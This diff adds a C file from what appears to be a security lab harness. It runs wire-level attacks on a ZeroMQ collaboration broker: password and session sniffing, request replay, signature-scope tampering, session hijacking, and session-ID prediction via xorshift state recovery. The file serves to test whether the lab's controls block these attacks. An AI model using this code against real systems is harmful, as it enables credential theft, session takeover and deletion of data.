@@ -1,0 +1,401 @@
+/*  att_wire.c: the attacks of an attacker who only sees the wire: sniff (plaintext
+    transport), predict-session (V-001), hijack (V-004/V-024), replay (V-022) and tamper
+    (HMAC scope). Each starts an in-process capture, then the victim, and works only from
+    what crossed the wire. Under CURVE nothing is readable, and each says so. */
+#include "attack.h"
+#include "sniff.h"
+
+#include <czmq.h>
+#include <stdlib.h>
+#include <string.h>
+
+typedef struct {
+    collab_sniffer_t *s;
+    uint64_t encrypted; /* CURVE messages seen */
+    uint64_t seen;
+} wire_t;
+
+static int wire_open(wire_t *w, const attack_opts_t *o, verdict_t *v)
+{
+    char err[256];
+    memset(w, 0, sizeof *w);
+    w->s = collab_sniffer_open_live(o->iface, (uint16_t)o->port, err, sizeof err);
+    if (!w->s)
+        return verdict(v, ATTACK_ERROR, "cannot capture on %s: %s", o->iface, err);
+    say("capturing on %s, port %d", o->iface, o->port);
+    return 0;
+}
+
+/*  Waits for the next decoded message matching the predicate; NULL on deadline. */
+typedef bool (*wire_pred)(const collab_sniff_msg_t *m, const void *arg);
+static const collab_sniff_msg_t *wire_wait(wire_t *w, wire_pred pred, const void *arg,
+                                           int timeout_ms)
+{
+    long long deadline = att_mono_ms() + timeout_ms;
+    const collab_sniff_msg_t *m;
+    for (long long left; (left = deadline - att_mono_ms()) > 0;) {
+        if (collab_sniffer_next(w->s, &m, (int)left) != 0)
+            continue;
+        w->seen++;
+        w->encrypted += m->encrypted;
+        if (!m->encrypted && m->decode_rc == 0 && pred(m, arg))
+            return m;
+    }
+    return NULL;
+}
+
+static bool is_request(const collab_sniff_msg_t *m, const void *action)
+{
+    return m->env.kind == COLLAB_KIND_REQUEST && collab_span_eq(m->env.action, action);
+}
+
+static bool is_reply_to(const collab_sniff_msg_t *m, const void *action)
+{
+    return m->env.kind == COLLAB_KIND_REPLY && strcmp(m->reply_to, action) == 0;
+}
+
+static bool has_session(const collab_sniff_msg_t *m, const void *unused)
+{
+    (void)unused;
+    return m->env.kind == COLLAB_KIND_REQUEST && m->env.session_id.len > 0;
+}
+
+/*  The verdict when the wanted message never showed: nothing readable under CURVE. */
+static int nothing_seen(const wire_t *w, verdict_t *v, const char *what)
+{
+    if (w->encrypted > 0)
+        return verdict(v, ATTACK_BLOCKED,
+                       "nothing readable: %llu messages crossed the wire, all "
+                       "encrypted (CURVE)",
+                       (unsigned long long)w->encrypted);
+    return verdict(v, ATTACK_ERROR, "no %s seen on the wire (%llu messages)", what,
+                   (unsigned long long)w->seen);
+}
+
+static void copy_span(char *dst, size_t cap, collab_span_t s)
+{
+    snprintf(dst, cap, "%.*s", (int)(s.len < cap ? s.len : cap - 1), s.ptr);
+}
+
+/*  A string field of a reply's data or a request's payload. */
+static bool map_field(collab_span_t map, const char *key, char *out, size_t cap)
+{
+    collab_map_t m;
+    collab_span_t s;
+    if (collab_map_parse(map.ptr, map.len, &m) != 0 || collab_map_str(&m, key, &s) != 0)
+        return false;
+    copy_span(out, cap, s);
+    return true;
+}
+
+static void wire_close(wire_t *w, victim_t *vic)
+{
+    if (vic)
+        victim_stop(vic);
+    collab_sniffer_destroy(&w->s);
+}
+
+int attack_sniff(const attack_opts_t *o, verdict_t *v)
+{
+    wire_t w;
+    victim_t vic;
+    char pw[COLLAB_PASSWORD_MAX + 1] = "", agent[COLLAB_MAX_AGENT_ID + 1] = "";
+    char sid[COLLAB_MAX_SESSION_ID + 1] = "";
+    if (wire_open(&w, o, v) != 0)
+        return v->outcome;
+    const char *args[] = {"--duration-ms", "1500", NULL};
+    victim_start(&vic, o, "coordinator1", "busy", args);
+    const collab_sniff_msg_t *m = wire_wait(&w, is_request, "login", o->timeout_ms * 3);
+    if (m) {
+        copy_span(agent, sizeof agent, m->env.agent_id);
+        map_field(m->env.payload, "password", pw, sizeof pw);
+        m = wire_wait(&w, is_reply_to, "login", o->timeout_ms * 3);
+    }
+    if (m)
+        map_field(m->env.data, "session_id", sid, sizeof sid);
+    wire_close(&w, &vic);
+    if (!pw[0] || !sid[0])
+        return nothing_seen(&w, v, "login");
+    return verdict(v, ATTACK_SUCCEEDED,
+                   "read off the wire: %s's password '%s' and its session id %s", agent, pw, sid);
+}
+
+/*  Sends raw frames from a new connection (optionally from `source`) and decodes the
+    reply. Returns 0 with the reply's envelope copied into rep_buf, or a negative code. */
+static int send_raw(const attack_opts_t *o, const char *source, const void *frame, size_t len,
+                    uint8_t *rep_buf, size_t cap, collab_envelope_t *rep)
+{
+    zsock_t *sock = zsock_new(ZMQ_DEALER);
+    if (!sock)
+        return COLLAB_E_IO;
+    zsock_set_linger(sock, 0);
+    int rc = source && *source ? zsock_connect(sock, "tcp://%s:0;%s:%d", source, o->host, o->port)
+                               : zsock_connect(sock, "%s", o->broker);
+    void *raw = zsock_resolve(sock);
+    if (rc == 0 && zmq_send(raw, frame, len, 0) < 0)
+        rc = COLLAB_E_IO;
+    zmq_pollitem_t item = {raw, 0, ZMQ_POLLIN, 0};
+    if (rc == 0)
+        rc = zmq_poll(&item, 1, o->timeout_ms) > 0 ? 0 : COLLAB_E_TIMEOUT;
+    int n = rc == 0 ? zmq_recv(raw, rep_buf, cap, 0) : -1;
+    zsock_destroy(&sock);
+    if (rc)
+        return rc;
+    if (n < 0 || (size_t)n > cap)
+        return COLLAB_E_TOO_LARGE;
+    return collab_envelope_decode(rep_buf, (size_t)n, rep);
+}
+
+/*  Copies a captured message's envelope frame (it is lent by the sniffer). */
+static size_t keep_frame(const collab_sniff_msg_t *m, uint8_t *buf, size_t cap)
+{
+    collab_span_t f = m->frames[m->envelope_frame];
+    if (f.len > cap)
+        return 0;
+    memcpy(buf, f.ptr, f.len);
+    return f.len;
+}
+
+int attack_replay(const attack_opts_t *o, verdict_t *v)
+{
+    wire_t w;
+    victim_t vic;
+    static uint8_t frame[COLLAB_MAX_FRAME], rep_buf[COLLAB_MAX_FRAME];
+    char orig[32] = "?";
+    size_t len = 0;
+    if (wire_open(&w, o, v) != 0)
+        return v->outcome;
+    victim_start(&vic, o, "coordinator1", "create-project", NULL);
+    const collab_sniff_msg_t *m = wire_wait(&w, is_request, "create_project", o->timeout_ms * 3);
+    if (m)
+        len = keep_frame(m, frame, sizeof frame);
+    if (m && (m = wire_wait(&w, is_reply_to, "create_project", o->timeout_ms * 3)) != NULL) {
+        collab_map_t d;
+        uint64_t id;
+        if (collab_map_parse(m->env.data.ptr, m->env.data.len, &d) == 0 &&
+            collab_map_uint(&d, "project_id", &id) == 0)
+            snprintf(orig, sizeof orig, "%llu", (unsigned long long)id);
+    }
+    wire_close(&w, NULL); /* the victim stays logged in, working */
+    if (!len) {
+        victim_stop(&vic);
+        return nothing_seen(&w, v, "signed create_project");
+    }
+    say("captured the victim's signed create_project (%zu bytes); sending it again", len);
+    collab_envelope_t rep;
+    int rc = send_raw(o, NULL, frame, len, rep_buf, sizeof rep_buf, &rep);
+    victim_stop(&vic);
+    if (rc)
+        return verdict(v, ATTACK_ERROR, "the replay got no reply: %s", collab_strerror(rc));
+    if (!rep.ok)
+        return verdict(v, ATTACK_BLOCKED, "the replayed request was refused: %.*s",
+                       (int)rep.error.len, rep.error.ptr);
+    collab_map_t d;
+    uint64_t id = 0;
+    if (collab_map_parse(rep.data.ptr, rep.data.len, &d) == 0)
+        collab_map_uint(&d, "project_id", &id);
+    return verdict(v, ATTACK_SUCCEEDED,
+                   "the captured create_project, sent again from a new "
+                   "connection, created project %llu (the original made %s)",
+                   (unsigned long long)id, orig);
+}
+
+int attack_tamper(const attack_opts_t *o, verdict_t *v)
+{
+    wire_t w;
+    victim_t vic;
+    static uint8_t frame[COLLAB_MAX_FRAME], out[COLLAB_MAX_FRAME], rep_buf[COLLAB_MAX_FRAME];
+    size_t len = 0, olen = 0;
+    if (wire_open(&w, o, v) != 0)
+        return v->outcome;
+    victim_start(&vic, o, "coordinator1", "close-project", NULL);
+    const collab_sniff_msg_t *m = wire_wait(&w, is_request, "close_project", o->timeout_ms * 3);
+    if (m)
+        len = keep_frame(m, frame, sizeof frame);
+    if (m)
+        wire_wait(&w, is_reply_to, "close_project", o->timeout_ms * 3);
+    wire_close(&w, NULL); /* the victim stays logged in, working */
+    if (!len) {
+        victim_stop(&vic);
+        return nothing_seen(&w, v, "signed close_project");
+    }
+    collab_envelope_t env, rep;
+    int drc = collab_envelope_decode(frame, len, &env);
+    env.action = (collab_span_t){"delete_project", strlen("delete_project")};
+    if (drc != 0 || collab_envelope_encode(&env, out, sizeof out, &olen) != 0) {
+        victim_stop(&vic);
+        return verdict(v, ATTACK_ERROR, "cannot re-encode the captured request");
+    }
+    say("captured the victim's signed close_project; re-sending it as delete_project, "
+        "payload and signature unchanged");
+    int rc = send_raw(o, NULL, out, olen, rep_buf, sizeof rep_buf, &rep);
+    victim_stop(&vic);
+    if (rc)
+        return verdict(v, ATTACK_ERROR, "no reply: %s", collab_strerror(rc));
+    if (!rep.ok)
+        return verdict(v, ATTACK_BLOCKED, "the tampered request was refused: %.*s",
+                       (int)rep.error.len, rep.error.ptr);
+    return verdict(v, ATTACK_SUCCEEDED,
+                   "a captured signed close_project re-sent as delete_project "
+                   "verified and deleted the project");
+}
+
+int attack_hijack(const attack_opts_t *o, verdict_t *v)
+{
+    wire_t w;
+    victim_t vic;
+    char sid[COLLAB_MAX_SESSION_ID + 1] = "", agent[COLLAB_MAX_AGENT_ID + 1] = "";
+    if (wire_open(&w, o, v) != 0)
+        return v->outcome;
+    const char *args[] = {"--duration-ms", "4000", NULL};
+    victim_start(&vic, o, "coordinator1", "busy", args);
+    const collab_sniff_msg_t *m = wire_wait(&w, has_session, NULL, o->timeout_ms * 3);
+    if (m) {
+        copy_span(sid, sizeof sid, m->env.session_id);
+        copy_span(agent, sizeof agent, m->env.agent_id);
+    }
+    collab_sniffer_destroy(&w.s);
+    if (!sid[0]) {
+        victim_stop(&vic);
+        return nothing_seen(&w, v, "request with a session id");
+    }
+    say("read %s's session id off the wire; using it from %s", agent, o->source);
+    collab_client_t *c = bare_client(o, agent, o->source);
+    collab_client_set_session(c, sid);
+    collab_reply_t r;
+    int rc = att_call(c, &r, "get_session_info", NULL);
+    char peer[80] = "";
+    if (rc == 0) {
+        map_field((collab_span_t){(const char *)r.data, r.data_len}, "peer_address", peer,
+                  sizeof peer);
+        collab_reply_free(&r);
+    }
+    collab_client_destroy(&c);
+    victim_stop(&vic);
+    if (rc == 0)
+        return verdict(v, ATTACK_SUCCEEDED,
+                       "%s's session, used from %s, answered an authenticated "
+                       "read as %s (session bound to %s)",
+                       agent, o->source, agent, peer);
+    return verdict(v, ATTACK_BLOCKED, "the hijacked session was refused: %s", collab_strerror(rc));
+}
+
+/*  The weak generator of LAB.md control 1, as an attacker models it. */
+static uint64_t xorshift(uint64_t *x)
+{
+    *x ^= *x << 13;
+    *x ^= *x >> 7;
+    *x ^= *x << 17;
+    return *x;
+}
+
+static bool parse_uuid(const char *s, uint8_t b[16])
+{
+    if (strlen(s) != 36)
+        return false;
+    for (int i = 0, k = 0; i < 36; i++) {
+        if (i == 8 || i == 13 || i == 18 || i == 23) {
+            if (s[i] != '-')
+                return false;
+            continue;
+        }
+        char hex[3] = {s[i], s[i + 1], 0};
+        char *end;
+        b[k++] = (uint8_t)strtoul(hex, &end, 16);
+        if (*end)
+            return false;
+        i++;
+    }
+    return (b[6] >> 4) == 4 && (b[8] >> 6) == 2;
+}
+
+static uint64_t be64(const uint8_t *b)
+{
+    uint64_t v = 0;
+    for (int i = 0; i < 8; i++)
+        v = v << 8 | b[i];
+    return v;
+}
+
+static void format_uuid(uint64_t a, uint64_t b, char out[37])
+{
+    uint8_t by[16];
+    for (int i = 0; i < 8; i++) {
+        by[i] = (uint8_t)(a >> (56 - 8 * i));
+        by[8 + i] = (uint8_t)(b >> (56 - 8 * i));
+    }
+    by[6] = (by[6] & 0x0f) | 0x40;
+    by[8] = (by[8] & 0x3f) | 0x80;
+    snprintf(out, 37, "%02x%02x%02x%02x-%02x%02x-%02x%02x-%02x%02x-%02x%02x%02x%02x%02x%02x", by[0],
+             by[1], by[2], by[3], by[4], by[5], by[6], by[7], by[8], by[9], by[10], by[11], by[12],
+             by[13], by[14], by[15]);
+}
+
+/*  From one UUID, the generator's state after it: the 4 version bits of the first output
+    are tried, and the second output's 62 visible bits confirm the guess. */
+static bool recover_state(const uint8_t b[16], uint64_t *state)
+{
+    uint64_t a = be64(b), second = be64(b + 8), mask = ~(3ULL << 62);
+    for (uint64_t n = 0; n < 16; n++) {
+        uint64_t x = (a & ~(0xfULL << 12)) | (n << 12);
+        uint64_t next = xorshift(&x);
+        if ((next & mask) == (second & mask)) {
+            *state = next;
+            return true;
+        }
+    }
+    return false;
+}
+
+int attack_predict_session(const attack_opts_t *o, verdict_t *v)
+{
+    wire_t w;
+    victim_t vic;
+    char sid[COLLAB_MAX_SESSION_ID + 1] = "", agent[COLLAB_MAX_AGENT_ID + 1] = "";
+    if (wire_open(&w, o, v) != 0)
+        return v->outcome;
+    const char *args[] = {"--duration-ms", "3000", NULL};
+    victim_start(&vic, o, "coordinator1", "relogin", args);
+    const collab_sniff_msg_t *m = wire_wait(&w, is_request, "login", o->timeout_ms * 3);
+    if (m)
+        copy_span(agent, sizeof agent, m->env.agent_id);
+    if (m && (m = wire_wait(&w, is_reply_to, "login", o->timeout_ms * 3)) != NULL)
+        map_field(m->env.data, "session_id", sid, sizeof sid);
+    if (!sid[0]) {
+        wire_close(&w, &vic);
+        return nothing_seen(&w, v, "login reply");
+    }
+    uint8_t b[16];
+    uint64_t state;
+    if (!parse_uuid(sid, b) || !recover_state(b, &state)) {
+        wire_close(&w, &vic);
+        return verdict(v, ATTACK_BLOCKED,
+                       "the observed session id (%zu characters) does not come "
+                       "from a predictable generator",
+                       strlen(sid));
+    }
+    char predicted[8][37];
+    for (int i = 0; i < 8; i++) {
+        uint64_t x = xorshift(&state), y = xorshift(&state);
+        format_uuid(x, y, predicted[i]);
+    }
+    say("observed %s's session id %s; predicted the next: %s", agent, sid, predicted[0]);
+    /* wait until the victim's next login has been answered, without reading the answer */
+    bool relogged = wire_wait(&w, is_reply_to, "login", o->timeout_ms * 3) != NULL;
+    collab_sniffer_destroy(&w.s);
+    int hit = -1;
+    for (int i = 0; i < 8 && hit < 0 && relogged; i++) {
+        collab_client_t *c = bare_client(o, agent, NULL);
+        collab_client_set_session(c, predicted[i]);
+        if (att_call(c, NULL, "get_session_info", NULL) == 0)
+            hit = i;
+        collab_client_destroy(&c);
+    }
+    victim_stop(&vic);
+    if (hit >= 0)
+        return verdict(v, ATTACK_SUCCEEDED,
+                       "from one observed id, predicted %s's next session id "
+                       "%s (guess %d) and used it: get_session_info ok",
+                       agent, predicted[hit], hit + 1);
+    return verdict(v, ATTACK_BLOCKED, "none of the 8 predicted ids is a live session");
+}
